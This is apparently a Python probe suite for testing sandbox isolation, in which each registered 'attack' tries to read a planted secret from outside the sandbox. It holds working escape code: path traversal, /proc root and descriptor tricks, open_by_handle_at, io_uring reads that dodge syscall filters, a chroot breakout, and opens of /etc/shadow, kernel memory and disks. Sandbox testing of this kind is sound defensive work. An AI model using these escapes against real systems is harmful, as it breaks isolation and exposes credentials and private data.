"""Attacks that read what lies outside; what counts is whether a random secret came out."""

# Attacks name the system calls they make.
from __future__ import annotations

import ctypes
import mmap
import os
import struct
from typing import Any

from reflectory.sandbox.probes.inside import Told, escaped, identity, opened, read, system
from reflectory.sandbox.probes.probe import Probe, add, attack

add(Probe("read_by_program", "files", "A program reads a secret file", argv=("cat", "{secret}"), control="user"))
add(Probe("read_by_shell", "files", "The shell reads a secret file", command='echo "$(<{secret})"', control="user"))
add(Probe("run_program_outside", "files", "Runs a program of another folder that says a secret", argv=("{program}",), control="user"))


@attack(control="user")
def read_absolute(told: Told) -> str:
    """Reads a secret file by its absolute path."""
    return read(told["secret"])


@attack(control="user")
def read_dotdot(told: Told) -> str:
    """Reads a secret file through `..`."""
    return read("../" * 40 + told["secret"].lstrip("/"))


@attack(control="user")
def read_symlink(told: Told) -> str:
    """Reads a secret file through a symbolic link in the working folder."""
    os.symlink(told["secret"], "link")
    return read("link")


@attack(control="user")
def read_hardlink(told: Told) -> str:
    """Reads a secret file through a hard link in the working folder."""
    os.link(told["secret"], "hard")
    return read("hard")


@attack(control="user")
def read_by_folder_descriptor(told: Told) -> str:
    """Reads a secret file relative to an O_PATH descriptor of its folder."""
    return read("secret", os.open(told["folder"], os.O_PATH | os.O_DIRECTORY))


@attack(control="user")
def read_proc_self_root(told: Told) -> str:
    """Reads a secret file through /proc/self/root."""
    return read("/proc/self/root" + told["secret"])


@attack()
def read_proc_1_root(told: Told) -> str:
    """Reads a secret file through the root folder of process 1."""
    return read("/proc/1/root" + told["secret"])


@attack(control="user")
def read_proc_parents(told: Told) -> list[str]:
    """Reads a secret file through the root folders of all processes above this one."""
    found: list[str] = []
    pid = os.getppid()
    while pid:
        try:
            found.append(read(f"/proc/{pid}/root{told['secret']}"))
        except OSError as error:
            found.append(str(error))
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])
    return found


@attack(control="user")
def read_proc_cwd(told: Told) -> str:
    """Reads a secret file through another process's working folder."""
    return read(f"/proc/{told['pid']}/cwd/secret")


@attack(control="user")
def read_proc_root(told: Told) -> str:
    """Reads a secret file through another process's root folder."""
    return read(f"/proc/{told['pid']}/root{told['secret']}")


@attack(control="user")
def read_proc_descriptor(told: Told) -> str:
    """Opens anew a file that another process holds open."""
    return read(f"/proc/{told['pid']}/fd/{told['secret_fd']}")


@attack()
def read_inherited(told: Told) -> list[str]:
    """Reads every descriptor it was started with; the host left one open on a secret."""
    found = []
    for fd in range(3, 1024):
        try:
            found.append(repr(os.pread(fd, 4096, 0)))
        except OSError:
            continue
    return found


@attack(control="root")
def read_open_tree(told: Told) -> str:
    """Clones the mount of a folder with open_tree and reads in the clone."""
    fd, error = system("open_tree", -100, told["folder"].encode(), 1 | os.O_CLOEXEC | 0x8000)
    if error:
        raise OSError(error, "open_tree")
    return read("secret", fd)


@attack(control="root")
def read_handle(told: Told) -> str:
    """Opens a file by a file handle, past all folders (CVE-2014-9357's kind)."""
    kind, data = told["handle"]
    content = bytes.fromhex(data)
    handle = ctypes.create_string_buffer(struct.pack("Ii", len(content), kind) + content)
    for path in (".", "/", "/tmp", "/usr", "/dev", "/proc"):
        fd, _ = system("open_by_handle_at", os.open(path, os.O_RDONLY), handle, os.O_RDONLY)
        if fd >= 0:
            return os.read(fd, 4096).decode("utf-8", "replace")
    return "no"


@attack(control="user")
def read_elsewhere(told: Told) -> list[str]:
    """Reads secret files in the other folders that anybody may write to."""
    found = []
    for path in told["elsewhere"]:
        try:
            found.append(read(path))
        except OSError as error:
            found.append(str(error))
    return found


@attack(control="root")
def open_shadow(told: Told) -> dict[str, Any]:
    """Opens the machine's /etc/shadow, without reading it."""
    return identity("/etc/shadow", os.open("/etc/shadow", os.O_RDONLY))


@attack(control="user")
def list_home(told: Told) -> dict[str, Any]:
    """Lists the home folder of the user who runs the sandbox."""
    return {"listing": [told["home"], os.listdir(told["home"])]}


@attack(control="user")
def list_folder(told: Told) -> list[str]:
    """Lists a folder; one of its names is a secret."""
    return os.listdir(told["folder"])


@attack(control="user")
def list_temporary(told: Told) -> list[str]:
    """Lists the machine's temporary folder; one of its names is a secret."""
    return os.listdir(told["temporary"])


@attack(control="user", leak=("files", "links"))
def read_link_target(told: Told) -> str:
    """Asks where a symbolic link outside leads; the target is a secret."""
    return str(os.readlink(told["link"]))


@attack(control="user", leak=("files", "stat"))
def stat_file(told: Told) -> dict[str, Any]:
    """Asks for size, times and owner of a file outside."""
    return identity(told["secret"], os.open(told["secret"], os.O_PATH))


@attack(control="root")
def open_kernel_memory(told: Told) -> dict[str, Any]:
    """Opens physical or kernel memory."""
    return opened(["/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore"], os.O_RDONLY)


@attack(control="root")
def open_disks(told: Told) -> dict[str, Any]:
    """Opens the machine's disks."""
    found = [f"/dev/{name}" for name in os.listdir("/sys/block") if not name.startswith(("loop", "ram", "zram"))]
    return opened(found, os.O_RDONLY)


@attack(control="root")
def open_kernel_log(told: Told) -> dict[str, Any]:
    """Opens the kernel's log."""
    return opened(["/dev/kmsg", "/proc/kmsg"], os.O_RDONLY)


@attack(control="root")
def open_sysctl(told: Told) -> dict[str, Any]:
    """Opens the kernel's settings for writing, without writing."""
    return opened(["/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger"], os.O_WRONLY)


@attack(control="root")
def open_cgroup(told: Told) -> dict[str, Any]:
    """Opens control group files for writing, without writing."""
    found = ["/sys/fs/cgroup/cgroup.procs", *(f"/sys/fs/cgroup/{name}/cgroup.procs" for name in ("memory", "pids", "unified"))]
    return opened(found, os.O_WRONLY)


@attack(control="user")
def read_io_uring(told: Told) -> Any:
    """Opens a secret file through io_uring, where no system call filter sees it."""
    parameters = ctypes.create_string_buffer(120)
    ring, error = system("io_uring_setup", 4, parameters)
    if error:
        raise OSError(error, "io_uring_setup")
    submit, complete = struct.unpack_from("7I", parameters, 40), struct.unpack_from("7I", parameters, 80)
    rings, entries = mmap.mmap(ring, 4096, offset=0), mmap.mmap(ring, 4096, offset=0x10000000)
    path = ctypes.create_string_buffer(told["secret"].encode())
    struct.pack_into("BBHiQQIIQ", entries, 0, 18, 0, 0, -100, 0, ctypes.addressof(path), 0, os.O_RDONLY, 1)  # IORING_OP_OPENAT
    struct.pack_into("I", rings, submit[6], 0)  # the first entry
    struct.pack_into("I", rings, submit[1], 1)  # the new tail
    system("io_uring_enter", ring, 1, 1, 1, None, 0)
    result = struct.unpack_from("Qi", rings, complete[5])[1]
    if result < 0:
        raise OSError(-result, "openat through io_uring")
    return os.read(result, 4096).decode("utf-8", "replace")


@attack()
def escape_chroot(told: Told) -> Any:
    """Leaves a root folder of its own making by an open descriptor, as a chroot jail is left."""
    outside = os.open("/", os.O_RDONLY)
    os.mkdir("jail")
    os.chroot("jail")
    os.fchdir(outside)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return [escaped("chroot was allowed"), read(told["secret"])]
